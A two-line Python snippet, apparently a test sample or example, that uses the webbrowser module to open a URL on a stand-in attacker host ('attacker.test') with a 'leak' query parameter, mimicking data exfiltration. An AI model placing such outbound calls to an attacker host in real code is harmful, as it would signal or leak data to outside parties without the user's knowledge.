import webbrowser
webbrowser.open("http://attacker.test/?leak=1")
